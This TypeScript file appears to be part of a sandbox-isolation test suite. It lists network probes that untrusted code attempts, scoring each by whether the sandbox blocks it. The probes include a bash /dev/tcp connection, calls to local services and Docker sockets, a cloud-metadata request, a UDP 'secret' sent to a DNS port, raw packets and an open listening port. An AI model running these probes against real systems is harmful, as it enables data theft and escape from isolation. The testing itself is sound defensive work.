/** Attacks by way of the network: services of this machine, the cloud's metadata, the world, and a door of its own. */
import { inNode, inPython, isRefused, THROUGH, tried, type Act } from './act.ts';
import type { Outcome } from '../corpus.ts';
import { waitFor } from '../../wait.ts';
import { answers, type Run, type Stage } from './stage.ts';

const CONNECT = 'import socket\nconnection = socket.create_connection';

/** A service that counts who comes. */
function isNotReached(before: () => number): (run: Run, stage: Stage) => Outcome {
  return (run, stage) =>
    stage.connections() > before()
      ? { blocked: false, how: 'the service was reached' }
      : { blocked: true, how: `nobody came (${run.text.slice(0, 120)})` };
}

/** Each attack on a counting service is judged by what came after the one before it. */
let seen = 0;

function counted({ code, ...act }: Omit<Act, 'judge'>): Act {
  return {
    ...act,
    code,
    judge: (run, stage) => {
      const outcome = isNotReached(() => seen)(run, stage);
      seen = stage.connections();
      return outcome;
    },
  };
}

/** There is no way there: an answer that only fails to come would be no proof. */
function hasNoWay({ text, status }: Run): Outcome {
  return /unreachable|ENETUNREACH|Errno 101/.test(text)
    ? { blocked: true, how: 'the network is unreachable' }
    : { blocked: false, how: `${status} ${text.slice(0, 200)}` };
}

export const NETWORK: readonly Act[] = [
  counted({
    name: 'python: a service of this machine',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(targets, tried(`${CONNECT}(("127.0.0.1", T["port"]), 3)\nconnection.recv(5)`)),
  }),
  counted({
    name: 'python: an HTTP request to it',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        tried('import urllib.request\nurllib.request.urlopen(f"http://127.0.0.1:{T[\'port\']}/", timeout=3)'),
      ),
  }),
  counted({
    name: 'python: an abstract socket',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        tried(
          `import socket
name = b"\\0" + T["abstractSocket"].encode()
connection = socket.socket(socket.AF_UNIX)
try:
    connection.connect(name)
except OSError:
    connection.connect(name.ljust(108, b"\\0"))
connection.recv(5)`,
        ),
      ),
  }),
  counted({
    name: 'python: a socket in the file system, as that of Docker',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        tried(
          'import socket\nconnection = socket.socket(socket.AF_UNIX)\nconnection.connect(T["socketFile"])\nconnection.recv(5)',
        ),
      ),
  }),
  counted({
    name: 'javascript: a service of this machine, by the objects of its runner',
    language: 'javascript',
    works: true,
    code: (targets) =>
      inNode(
        targets,
        `const socket = use('node:net').connect(T.port, '127.0.0.1');
return await new Promise((resolve) => { socket.on('data', () => resolve('data')); socket.on('error', (e) => resolve(String(e))); });`,
      ),
  }),
  counted({
    name: 'shell: a service of this machine',
    language: 'shell',
    works: true,
    code: ({ port }) => `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${String(port)} && head -c 5 <&3'`,
  }),
  {
    name: 'python: PostgreSQL',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        tried(
          `${CONNECT}(("127.0.0.1", T["postgresPort"]), 3)\nconnection.send(bytes([0, 0, 0, 8, 4, 210, 22, 47]))\nassert connection.recv(1)`,
        ),
      ),
    judge: isRefused,
  },
  {
    name: 'python: NATS',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        tried(`${CONNECT}(("127.0.0.1", T["natsPort"]), 3)\nassert b"INFO" in connection.recv(99)`),
      ),
    judge: isRefused,
  },
  {
    name: 'python: the API of NoETL',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        tried(
          'import urllib.request\nurllib.request.urlopen(f"http://127.0.0.1:{T[\'apiPort\']}/api/executions", timeout=5)',
        ),
      ),
    judge: isRefused,
  },
  {
    name: 'python: the metadata address of clouds',
    language: 'python',
    code: () => `import socket\nresult = socket.create_connection(("169.254.169.254", 80), 3).recv(1)`,
    judge: hasNoWay,
  },
  {
    name: 'python: the internet',
    language: 'python',
    code: () => `import socket\nresult = socket.create_connection(("1.1.1.1", 443), 3).getpeername()`,
    judge: hasNoWay,
  },
  {
    name: 'python: data that leaves as a question to a name server',
    language: 'python',
    code: () =>
      `import socket\nresult = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("1.1.1.1", 53))`,
    judge: hasNoWay,
  },
  {
    name: 'python: raw packets',
    language: 'python',
    works: true,
    needsRoot: true,
    code: () => tried('import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)'),
    judge: isRefused,
  },
  {
    name: 'python: a door of its own',
    language: 'python',
    works: true,
    code: (targets) =>
      inPython(
        targets,
        `
import socket, threading, time
def serve():
    door = socket.create_server(("0.0.0.0", T["freePort"]))
    while True:
        door.accept()
threading.Thread(target=serve, daemon=True).start()
time.sleep(0.3)
result = "listening"`,
      ),
    judge: async (_, stage) => {
      const open = () => answers(stage.targets.freePort);
      const reached = await waitFor(open, { what: 'the door', timeoutMs: 500 }).catch(() => false);
      return reached
        ? { blocked: false, how: THROUGH }
        : { blocked: true, how: 'nobody answers at its port' };
    },
  },
];
